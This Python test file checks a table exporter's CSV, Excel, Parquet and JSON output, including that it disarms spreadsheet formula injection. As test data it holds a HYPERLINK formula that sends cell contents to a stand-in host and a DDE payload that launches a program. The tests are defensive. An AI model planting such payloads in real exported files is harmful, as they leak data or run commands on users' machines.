"""Tables as files that give back what was in them and run nothing in a spreadsheet."""

from __future__ import annotations

import io
import json
import stat
from datetime import UTC, date, datetime
from decimal import Decimal
from pathlib import Path

import openpyxl
import pandas
import pytest

from doctally.errors import AccessDenied, ConfigurationError
from doctally.export import WRITERS, write_csv, write_table
from doctally.results import State

ATTACK = '=HYPERLINK("http://example.com/?x="&A1,"pay here")'


@pytest.fixture
def frame() -> pandas.DataFrame:
    """Return rows as the read model gives them: objects and nothings in each column."""
    columns = {
        "document_id": [1, 2],
        "supplier_name": ["Müller & Söhne, GmbH", ATTACK],
        "total_gross": [Decimal("-7.67"), None],
        "issue_date": [date(2020, 3, 29), None],
        "received_at": [datetime(2020, 3, 29, 14, 30, tzinfo=UTC), None],
        "state": [State.ACCEPTED, State.REVIEW],
    }
    return pandas.DataFrame({n: pandas.Series(v, dtype=object) for n, v in columns.items()})


def test_csv_keeps_cents_umlauts_and_emptiness(frame: pandas.DataFrame, tmp_path: Path) -> None:
    write_table(frame, tmp_path / "t.csv")
    assert (tmp_path / "t.csv").read_text(encoding="utf-8").splitlines() == [
        "document_id,supplier_name,total_gross,issue_date,received_at,state",
        '1,"Müller & Söhne, GmbH",-7.67,2020-03-29,2020-03-29T14:30:00+00:00,accepted',
        '2,"\'=HYPERLINK(""http://example.com/?x=""&A1,""pay here"")",,,,review',
    ]


@pytest.mark.parametrize(
    "text", [ATTACK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]
)
def test_csv_disarms_every_start_of_a_formula(text: str) -> None:
    stream = io.StringIO()
    write_csv(pandas.DataFrame({"=name": [text]}), stream)
    back = pandas.read_csv(io.StringIO(stream.getvalue()), dtype=str)
    assert list(back.columns) == ["'=name"]
    assert back.iloc[0, 0] == "'" + text.replace("\r", "\n")


def test_no_line_break_in_a_csv_cell_starts_a_row() -> None:
    stream = io.StringIO()
    write_csv(pandas.DataFrame({"x": ["a\r=1+1", "b\r\n=2+2", "c\n=3+3"]}), stream)
    assert pandas.read_csv(io.StringIO(stream.getvalue()))["x"].tolist() == [
        "a\n=1+1",
        "b\n=2+2",
        "c\n=3+3",
    ]


@pytest.mark.parametrize("value", ["-7.67", "+49932431500", "-1.234,50", -5, -0.5, "a=b", "7%"])
def test_csv_leaves_numbers_and_harmless_text_alone(value: object) -> None:
    stream = io.StringIO()
    write_csv(pandas.DataFrame({"x": pandas.Series([value], dtype=object)}), stream)
    assert stream.getvalue().splitlines()[1].strip('"') == str(value)


def test_excel_holds_numbers_dates_and_formulas_as_text(
    frame: pandas.DataFrame, tmp_path: Path
) -> None:
    write_table(frame, tmp_path / "t.xlsx")
    sheet = openpyxl.load_workbook(tmp_path / "t.xlsx").active
    first, second = list(sheet.iter_rows(min_row=2))
    assert [c.value for c in first] == [
        1,
        "Müller & Söhne, GmbH",
        -7.67,
        datetime(2020, 3, 29),
        datetime(2020, 3, 29, 14, 30),
        "accepted",
    ]
    assert second[1].value == ATTACK
    assert second[1].data_type == "s"
    assert [c.value for c in second[2:5]] == [None, None, None]


def test_excel_drops_characters_that_xml_cannot_hold(tmp_path: Path) -> None:
    write_table(pandas.DataFrame({"x": ["a\x00b\x0bc"]}), tmp_path / "t.xlsx")
    assert openpyxl.load_workbook(tmp_path / "t.xlsx").active["A2"].value == "abc"


def test_a_table_too_long_for_excel_is_refused(tmp_path: Path) -> None:
    rows = pandas.DataFrame({"x": range(1_048_576)})
    with pytest.raises(ConfigurationError, match=r"1048576; use \.csv"):
        write_table(rows, tmp_path / "t.xlsx")
    assert list(tmp_path.iterdir()) == []


def test_parquet_keeps_decimals_dates_and_time_zones(
    frame: pandas.DataFrame, tmp_path: Path
) -> None:
    write_table(frame, tmp_path / "t.parquet")
    back = pandas.read_parquet(tmp_path / "t.parquet")
    assert back["total_gross"][0] == Decimal("-7.67")
    assert back["issue_date"][0] == date(2020, 3, 29)
    assert back["received_at"][0] == datetime(2020, 3, 29, 14, 30, tzinfo=UTC)
    assert back["supplier_name"][1] == ATTACK


def test_json_is_records_in_normal_form(frame: pandas.DataFrame, tmp_path: Path) -> None:
    write_table(frame, tmp_path / "T.JSON")
    first, second = json.loads((tmp_path / "T.JSON").read_text(encoding="utf-8"))
    assert first["total_gross"] == "-7.67"
    assert first["issue_date"] == "2020-03-29"
    assert first["received_at"] == "2020-03-29T14:30:00+00:00"
    assert first["document_id"] == 1
    assert second["supplier_name"] == ATTACK
    assert second["total_gross"] is None


def test_missing_numbers_and_times_are_null_in_json(tmp_path: Path) -> None:
    floats = pandas.DataFrame({"x": [1.5, float("nan")], "t": pandas.to_datetime(["2020", None])})
    write_table(floats, tmp_path / "t.json")
    first, second = json.loads((tmp_path / "t.json").read_text(encoding="utf-8"))
    assert first == {"x": 1.5, "t": "2020-01-01T00:00:00"}
    assert second == {"x": None, "t": None}


@pytest.mark.parametrize("suffix", list(WRITERS))
def test_an_empty_table_keeps_its_header(
    suffix: str, frame: pandas.DataFrame, tmp_path: Path
) -> None:
    path = tmp_path / f"t{suffix}"
    write_table(frame.iloc[:0], path)
    if suffix == ".json":
        assert json.loads(path.read_text(encoding="utf-8")) == []
    else:
        read = {".csv": pandas.read_csv, ".xlsx": pandas.read_excel}.get(
            suffix, pandas.read_parquet
        )
        assert list(read(path).columns) == list(frame.columns)


def test_an_unknown_suffix_names_the_known_ones(tmp_path: Path) -> None:
    with pytest.raises(ConfigurationError, match=r"\.csv, \.xlsx, \.parquet, \.json"):
        write_table(pandas.DataFrame({"x": [1]}), tmp_path / "t.ods")


def test_a_folder_that_is_not_there_is_said_and_nothing_is_left(tmp_path: Path) -> None:
    with pytest.raises(AccessDenied, match="cannot be written"):
        write_table(pandas.DataFrame({"x": [1]}), tmp_path / "no" / "t.csv")


def test_a_failed_write_keeps_the_earlier_file(tmp_path: Path) -> None:
    path = tmp_path / "t.json"
    write_table(pandas.DataFrame({"x": [1]}), path)
    before = path.read_bytes()
    with pytest.raises(ValueError, match="not JSON compliant"):
        write_table(pandas.DataFrame({"x": [float("inf")]}), path)
    assert path.read_bytes() == before
    assert [p.name for p in tmp_path.iterdir()] == ["t.json"]
    assert stat.S_ISREG(path.stat().st_mode)
